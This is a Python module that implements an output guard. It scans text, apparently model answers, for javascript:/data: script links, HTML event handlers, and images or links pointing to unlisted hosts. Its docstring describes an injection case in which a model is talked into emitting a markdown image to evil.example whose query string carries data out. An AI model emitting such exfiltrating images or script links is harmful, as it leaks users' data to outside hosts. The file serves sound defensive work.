"""Links that run scripts, images that carry data away, and addresses of hosts that are not listed.

A chat window loads the images of an answer by itself: an address that a model was talked into making up
(``![](https://evil.example/?q=...)``) tells its host whatever the model put there. So images of hosts that
are not listed are found where their address has room for data: a query, a fragment, a user, or a part too
long for a name. Which of those mean harm cannot be seen: a badge in a README looks the same, list its host.
A few characters fit into a short name, too; ``any_image`` finds all images of hosts that are not listed.

A script counts only where a link or an attribute holds it: "javascript: the good parts" is a sentence.
Hosts are compared as they look (in the view): one that is spelled with look-alikes counts as the listed one.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterable

from validation.guards.scan import Pattern, PatternGuard, Scanner, trie, trie_pattern
from validation.guards.specs import WebCheck

SCRIPT, IMAGE, LINK = "SCRIPT_LINK", "IMAGE_LINK", "UNLISTED_LINK"
#: Characters of an address that are looked at, and of an image's description.
_ADDRESS, _ALT = 2_048, 256
#: A part of a path, or of a host's name, that is longer has room for data.
_LONGEST_PART, _LONGEST_NAME = 48, 32

_CHAR = r"[^\s<>\"'`()\[\]{}|^]"
_WEB = r"(?:https?:)?[/\\]{2}"
_FEW = r"\s{0,3}+"
_QUOTE = rf"{_FEW}[\"'`]?{_FEW}"
_ACTIVE = ("href", "src", "action", "formaction", "data", "poster")
_LOADED = ("src", "srcset", "poster", "background")
#: Elements whose event handlers are looked for; most of them fire without a click.
_ELEMENTS = (
    *("a", "audio", "body", "button", "details", "div", "embed", "form", "html", "iframe", "img", "input"),
    *("link", "marquee", "object", "select", "span", "style", "svg", "textarea", "video"),
)
#: What stands in every program for React, and needs a click or a key.
_JSX = rf"(?:click|change|submit|input|keydown|keyup|blur|select){_FEW}={_FEW}\{{"
#: Characters of a tag before a handler, and of the handler.
_TAG, _HANDLER = 512, 1_024


def _spread(word: str) -> str:
    """A scheme as browsers read it: tabs and line ends within it do not count."""
    return r"[\t\n\r]?".join(word)


def _names(words: Iterable[str], then: str = "", unfinished: bool = False) -> str:
    return trie_pattern(trie([re.escape(char) for char in word] for word in words), then, unfinished)


_RUNS = (
    rf"((?:{_spread('javascript')}|{_spread('vbscript')})\s?(?::|&colon;|&\#0{{0,5}}58;|&\#x0{{0,5}}3a;)"
    rf"[^ <>\"'`\]]{{1,{_ADDRESS}}}"
    rf"|data:(?:text/(?:html|xml|javascript)|application/|image/svg)[^\s<>\"'`)\]]{{0,{_ADDRESS}}})"
)
#: What may still become such an address, at the end of what has come.
_MAY_RUN = r"[jvd][^ \"'<>`\]]*+\Z"
_ATTRIBUTE = r"(?<![\w-])(?!\Z)"
_OPEN_ACTIVE = _names(_ACTIVE, rf"{_FEW}(?:\Z|={_QUOTE}(?:\Z|{_MAY_RUN}))", unfinished=True)
_OPEN_TAG = _names(("script", *_ELEMENTS), r"(?![\w-])[^<>]*+\Z", unfinished=True)
_SCRIPTS = Scanner(
    tuple(
        Pattern(SCRIPT, 1.0, re.compile(regex), group=1)
        for regex in (
            rf"\][(:]{_FEW}<?{_FEW}{_RUNS}",
            rf"(?<![\w-]){_names(_ACTIVE)}{_FEW}={_QUOTE}{_RUNS}",
            rf"<{_RUNS}",
            rf"(<script(?![\w-])[^<>]{{0,{_TAG}}}>?)",
            rf"<{_names(_ELEMENTS)}(?=[\s/\"'])[^<>]{{0,{_TAG}}}?[\s/\"']"
            rf"(on(?!{_JSX})[a-z]{{3,20}}{_FEW}={_FEW}[^\s<>][^<>]{{0,{_HANDLER}}})",
        )
    ),
    re.compile(
        rf"\](?:\Z|[(:]{_FEW}<?{_FEW}(?:\Z|{_MAY_RUN}))"
        rf"|{_ATTRIBUTE}{_OPEN_ACTIVE}"
        rf"|<(?:\Z|{_MAY_RUN}|{_OPEN_TAG})"
    ),
    longest=32 + 20 + _ADDRESS + 2,
    gate=re.compile(r"[:;]|<script|\bon[a-z]"),
    folded=True,
)
_IMAGES = (
    rf"!\[[^\]\n]{{0,{_ALT}}}\]\({_FEW}<?({_WEB}{_CHAR}{{1,{_ADDRESS}}})",
    # Where ![...][1] leads; an ordinary link may lead there as well.
    rf"\]:{_FEW}<?({_WEB}{_CHAR}{{1,{_ADDRESS}}})",
    rf"(?<![\w-]){_names(_LOADED)}{_FEW}={_QUOTE}({_WEB}{_CHAR}{{1,{_ADDRESS}}})",
    rf"(?<![\w-])url\({_QUOTE}({_WEB}{_CHAR}{{1,{_ADDRESS}}})",
)
_MAY_LOAD = rf"(?:h[tps:]{{0,5}}+)?(?:\Z|[/\\]{_CHAR}*+\Z)"
_OPEN_LOADED = _names(_LOADED, rf"{_FEW}(?:\Z|={_QUOTE}{_MAY_LOAD})", unfinished=True)
_OPEN_URL = _names(["url("], rf"{_QUOTE}{_MAY_LOAD}", unfinished=True)
_MAY_BE_IMAGE = re.compile(
    rf"!(?:\Z|\[[^\]\n]{{0,{_ALT}}}+(?:\Z|\](?:\Z|\({_FEW}<?{_MAY_LOAD})))"
    rf"|\](?:\Z|:{_FEW}<?{_MAY_LOAD})"
    rf"|{_ATTRIBUTE}(?:{_OPEN_LOADED}|{_OPEN_URL})"
)
_LINKS = rf"(?<!\w)(https?:[/\\]{{2}}{_CHAR}{{1,{_ADDRESS}}})"
_OPEN_LINK = _names(["http"], rf"(?:\Z|[s:]{_CHAR}*+\Z)", unfinished=True)
_MAY_BE_LINK = re.compile(rf"(?<!\w)(?!\Z){_OPEN_LINK}")
_PARTS = re.compile(rf"{_WEB}([^/\\?#]*)([^?#]*)(.*)", re.DOTALL)


class Hosts:
    """A list of hosts, those below ``*.`` included."""

    def __init__(self, allowed: Iterable[str]) -> None:
        allowed = set(allowed)
        self._exact = {host for host in allowed if not host.startswith("*.")}
        self._below = tuple(host[1:] for host in allowed - self._exact)

    def lists(self, address: str) -> bool:
        """Whether an address leads to a host of the list."""
        host = _parts(address)[1]
        return host in self._exact or (bool(self._below) and host.endswith(self._below))


def _parts(address: str) -> tuple[str, str, str, str]:
    """User, host, path, and query with fragment of a folded address."""
    match = _PARTS.match(address)
    place, path, rest = match.groups() if match else ("", "", "")
    user, _, host = place.rpartition("@")
    return user, re.sub(r":[0-9]*\Z", "", host).rstrip("."), path, rest


def carries(address: str) -> bool:
    """Whether an address has room for data."""
    user, host, path, rest = _parts(address)
    return (
        bool(user or rest.strip("?#"))
        or max(map(len, re.split(r"[/\\]", path))) > _LONGEST_PART
        or max(map(len, host.split("."))) > _LONGEST_NAME
    )


def web_guard(checks: Iterable[WebCheck], allowed_hosts: Iterable[str]) -> PatternGuard:
    """The guard of policy kind ``web``."""
    hosts = Hosts(allowed_hosts)
    wanted = set(checks)

    def found(which: Callable[[str], bool]) -> Callable[[re.Match[str]], int | None]:
        return lambda match: match.end(1) if which(match[1]) and not hosts.lists(match[1]) else None

    scanners = []
    if "script" in wanted:
        scanners.append(_SCRIPTS)
    if wanted & {"image", "any_image"}:
        which = found((lambda _: True) if "any_image" in wanted else carries)
        scanners.append(
            Scanner(
                tuple(Pattern(IMAGE, 1.0, re.compile(regex), which, group=1) for regex in _IMAGES),
                _MAY_BE_IMAGE,
                longest=_ALT + 16 + _ADDRESS + 1,
                gate=re.compile(r"[/\\]{2}"),
                folded=True,
            )
        )
    if "link" in wanted:
        scanners.append(
            Scanner(
                (Pattern(LINK, 1.0, re.compile(_LINKS), found(lambda _: True), group=1),),
                _MAY_BE_LINK,
                longest=8 + _ADDRESS + 1,
                gate=re.compile("http"),
                folded=True,
            )
        )
    return PatternGuard(scanners, "exact")
